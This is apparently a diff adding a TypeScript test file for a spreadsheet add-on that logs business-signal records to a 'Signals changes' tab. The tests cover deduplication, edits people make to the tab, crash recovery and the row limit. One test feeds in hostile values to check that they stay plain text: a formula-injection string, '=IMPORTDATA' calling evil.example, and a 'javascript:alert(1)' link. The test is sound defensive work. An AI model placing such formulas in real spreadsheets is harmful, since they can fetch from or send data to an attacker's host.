@@ -1,0 +1,262 @@
+/** The list of changes: each version once, whatever dies, and whatever people do with the tab in between. */
+import { type ChangesPlace, type NewRecord, writeChanges } from '../../../src/addon/jobs/changes-tab.js';
+import type { Grid } from '../../../src/addon/platform.js';
+import { createZone } from '../../../src/addon/question/zone.js';
+import { createFakeTab, type FakeTab } from '../tab/fake-tab.js';
+
+const NOW = Date.UTC(2026, 10, 20, 9, 30);
+const zone = createZone('Etc/GMT');
+
+class Killed extends Error {}
+
+/** A spreadsheet that counts the calls to it, and a job that remembers what it is told to. */
+function openSpreadsheet() {
+  const tabs: { tab: FakeTab; name: string }[] = [];
+  const calls: string[] = [];
+  let dies = Number.POSITIVE_INFINITY;
+  let ids = 0;
+  let place: ChangesPlace | undefined;
+  const before = (call: string) => {
+    calls.push(call);
+    if (calls.length > dies) throw new Killed();
+  };
+  const grid: Grid = {
+    selection: () => undefined,
+    tabs() {
+      before('tabs');
+      return tabs.map(({ tab }) => tab);
+    },
+    insert(name) {
+      before('insert');
+      ids += 1;
+      const named = { name };
+      const tab = createFakeTab(before, ids, () => named.name);
+      tabs.push(Object.assign(named, { tab }));
+      return tab;
+    },
+    flush: () => before('flush'),
+  };
+  return {
+    tabs,
+    calls,
+    /** @param diesAfter as many calls */
+    write(records: readonly NewRecord[], { now = NOW, diesAfter = Number.POSITIVE_INFINITY } = {}) {
+      calls.length = 0;
+      dies = diesAfter;
+      try {
+        const keep = (next: ChangesPlace) => {
+          before('keep');
+          place = next;
+        };
+        const written = writeChanges(grid, records, { zone, now, place, keep });
+        place = written.place;
+        return written;
+      } catch (error) {
+        if (error instanceof Killed) return undefined;
+        throw error;
+      } finally {
+        dies = Number.POSITIVE_INFINITY;
+      }
+    },
+    only(): FakeTab {
+      expect(tabs).toHaveLength(1);
+      return tabs[0]!.tab;
+    },
+  };
+}
+
+function record(id: string, day = 19, more: Partial<NewRecord['record']> = {}, table = 'Sheet1'): NewRecord {
+  const modified = `2026-11-${day}`;
+  const summary = {
+    dataset: 'business-expansion',
+    id,
+    announced: modified,
+    modified,
+    company: `company of ${id}`,
+    what: 'HQ',
+    headline: `headline of ${id}`,
+    where: 'Austin, Texas',
+    investment: 5_000_000,
+    currency: 'USD',
+    jobs: 120,
+    link: 'https://news.example/1',
+  } as const;
+  return { record: { ...summary, ...more }, table };
+}
+
+/** The tab as people see it, without what is blank at its ends. */
+function seenIn(tab: FakeTab): unknown[][] {
+  const { rows, columns } = tab.used();
+  return tab.cells.slice(0, rows).map((cells) => cells.slice(0, columns).map(({ value }) => value));
+}
+
+function columnIn(tab: FakeTab, header: string): unknown[] {
+  const [names = [], ...rows] = seenIn(tab);
+  return rows.map((cells) => cells[names.indexOf(header)]);
+}
+
+const HEADER =
+  'First seen|Dataset|Company|What|Headline|Place|Investment|Currency|Jobs|Announced|Source|Table|Id'.split(
+    '|',
+  );
+
+test('a row for each version, newest first, under a header that stays in sight', () => {
+  const sheet = openSpreadsheet();
+  const { investment: _investment, jobs: _jobs, ...bare } = record('b', 20).record;
+  const executive = { ...bare, dataset: 'executive-change', announced: 'soon', currency: '' } as const;
+  const written = sheet.write([record('a'), { record: executive, table: 'People' }]);
+  expect(written).toMatchObject({ added: 2, place: { tab: 1 } });
+  expect(sheet.tabs[0]?.name).toBe('Signals changes');
+  expect(sheet.calls).toContain('freezeHeader');
+  const [first, what, place, link] = [new Date(NOW), 'HQ', 'Austin, Texas', 'https://news.example/1'];
+  expect(seenIn(sheet.only())).toEqual([
+    HEADER,
+    [first, 'EXEC_CHANGES', 'company of b', what, 'headline of b', place, '', '', '', 'soon', link].concat([
+      'People',
+      'b 2026-11-20',
+    ]),
+    [first, 'EXPANSIONS', 'company of a', what, 'headline of a', place, 5_000_000, 'USD', 120].concat([
+      zone.midnight('2026-11-19'),
+      link,
+      'Sheet1',
+      'a 2026-11-19',
+    ]),
+  ]);
+});
+
+test('the same again adds and changes nothing, another version is a row of its own', () => {
+  const sheet = openSpreadsheet();
+  sheet.write([record('a'), record('a', 19, {}, 'Sheet2'), record('', 19)]);
+  const before = seenIn(sheet.only());
+  expect(before).toHaveLength(2);
+  const again = record('a', 19, { headline: 'another headline' }, 'Sheet3');
+  expect(sheet.write([again], { now: NOW + 86_400_000 })).toMatchObject({ added: 0 });
+  expect(seenIn(sheet.only())).toEqual(before);
+  sheet.write([again, record('a', 20)]);
+  expect(columnIn(sheet.only(), 'Id')).toEqual(['a 2026-11-20', 'a 2026-11-19']);
+  expect(
+    sheet
+      .only()
+      .cells.flat()
+      .every(({ note }) => note === ''),
+  ).toBe(true);
+});
+
+test('whatever a record says stays text', () => {
+  const sheet = openSpreadsheet();
+  const hostile = '=IMPORTDATA("https://evil.example")';
+  const more = { company: hostile, what: "'+1", headline: '-1-2', where: '@x', currency: hostile };
+  const days = { announced: hostile, link: 'javascript:alert(1)', headline: 'x'.repeat(60_000) };
+  sheet.write([
+    record(hostile, 19, { ...more, ...days }, hostile),
+    record('r', 19, { announced: '2026-02-30' }),
+  ]);
+  const cells = sheet.only().cells.flat();
+  expect(cells.every(({ formula }) => formula === '')).toBe(true);
+  expect(cells.every(({ value }) => String(value).length < 50_000)).toBe(true);
+  expect(columnIn(sheet.only(), 'What')).toEqual(["'+1", 'HQ']);
+  expect(columnIn(sheet.only(), 'Announced')).toEqual([hostile, '2026-02-30']);
+  expect(sheet.write([record(hostile), record('r')])).toMatchObject({ added: 0 });
+});
+
+const OLD = [record('a', 11), record('b', 12), record('c', 13)];
+const NEW = [record('d', 14), record('e', 15), record('f', 16)];
+
+/** A tab in which a person has worked: renamed, sorted, with a column and a row of their own, and one of ours moved. */
+function openUsed() {
+  const sheet = openSpreadsheet();
+  sheet.write(OLD);
+  const tab = sheet.only();
+  sheet.tabs[0]!.name = 'What is new';
+  tab.insertColumn(3);
+  tab.type(1, 3, 'Owner');
+  tab.type(3, 3, 'Ann, for b');
+  tab.moveColumn(14, 1);
+  tab.insertRows(4, 1);
+  tab.type(4, 4, 'my own row');
+  tab.sort(1);
+  return { sheet, tab };
+}
+
+/** What the person has written stands where it stood, and each version once. */
+function checkUsed(tab: FakeTab, ids: readonly string[]): void {
+  const shown = columnIn(tab, 'Id').map(String);
+  expect(shown.filter((id) => id !== '').sort()).toEqual([...ids].sort());
+  const owners = columnIn(tab, 'Owner');
+  expect(
+    owners
+      .map((owner, row) => owner && `${String(owner)}: ${shown[row]}`)
+      .filter(Boolean)
+      .sort(),
+  ).toEqual(['Ann, for b: b 2026-11-12', 'my own row: ']);
+  columnIn(tab, 'Company').forEach((company, row) => {
+    expect(company).toBe(shown[row] === '' ? '' : `company of ${shown[row]?.slice(0, 1)}`);
+  });
+}
+
+const idsOf = (records: readonly NewRecord[]) =>
+  records.map(({ record: { id, modified } }) => `${id} ${modified}`);
+
+test('people rename and sort the tab, move columns, and add columns and rows: nothing of theirs is touched', () => {
+  const { sheet, tab } = openUsed();
+  expect(sheet.write([...NEW, ...OLD])).toMatchObject({ added: 3, place: { tab: 1 } });
+  expect(sheet.tabs).toHaveLength(1);
+  checkUsed(tab, idsOf([...OLD, ...NEW]));
+  expect(columnIn(tab, 'Id').slice(0, 3)).toEqual(['f 2026-11-16', 'e 2026-11-15', 'd 2026-11-14']);
+});
+
+test.each(['new', 'used'])(
+  'ended after any call in a %s tab and repeated, each version is there once',
+  (kind) => {
+    for (let after = 0; ; after++) {
+      const sheet = kind === 'used' ? openUsed().sheet : openSpreadsheet();
+      const isOver = sheet.write(NEW, { diesAfter: after }) !== undefined;
+      const [entry] = sheet.tabs;
+      // meanwhile a person acts
+      if (kind === 'used') entry?.tab.sort(2);
+      expect(sheet.write([...NEW, ...OLD])).toMatchObject({ place: { tab: 1 } });
+      expect(sheet.write([...NEW, ...OLD])).toMatchObject({ added: 0 });
+      const tab = sheet.only();
+      if (kind === 'used') checkUsed(tab, idsOf([...OLD, ...NEW]));
+      expect(columnIn(tab, 'Id').filter((id) => id !== '')).toHaveLength(6);
+      // nor is a blank row left, but for the person's own
+      expect(seenIn(tab).filter((cells) => cells.every((cell) => cell === ''))).toEqual([]);
+      if (isOver) {
+        expect(after).toBeGreaterThan(8);
+        return;
+      }
+    }
+  },
+);
+
+test('a tab that was deleted is made again', () => {
+  const sheet = openSpreadsheet();
+  sheet.write(OLD);
+  sheet.tabs.length = 0;
+  expect(sheet.write(NEW)).toMatchObject({ added: 3, place: { tab: 2 } });
+  expect(columnIn(sheet.only(), 'Id')).toHaveLength(3);
+});
+
+test('more rows take no more calls', () => {
+  const callsFor = (count: number) => {
+    const sheet = openSpreadsheet();
+    sheet.write(OLD);
+    sheet.write(Array.from({ length: count }, (_, index) => record(`n${index}`)));
+    return [...sheet.calls];
+  };
+  expect(callsFor(1)).toEqual(callsFor(400));
+});
+
+test('a full tab stays as it is and says so, until a person deletes rows', () => {
+  const sheet = openSpreadsheet();
+  sheet.write(Array.from({ length: 4_999 }, (_, index) => record(`n${index}`)));
+  expect(sheet.write(OLD.slice(0, 1))).toMatchObject({ added: 1 });
+  const before = sheet.only().cells.length;
+  expect(sheet.write(NEW)).toEqual({ added: 0, changed: 0, isFull: true, place: { tab: 1 } });
+  expect(sheet.only().cells).toHaveLength(before);
+  // what is there already takes no room
+  expect(sheet.write(OLD.slice(0, 1))).not.toHaveProperty('isFull');
+  for (let row = 0; row < 3; row++) sheet.only().deleteRow(5_001 - row);
+  expect(sheet.write(NEW)).toMatchObject({ added: 3 });
+  expect(columnIn(sheet.only(), 'Id')).toHaveLength(5_000);
+});
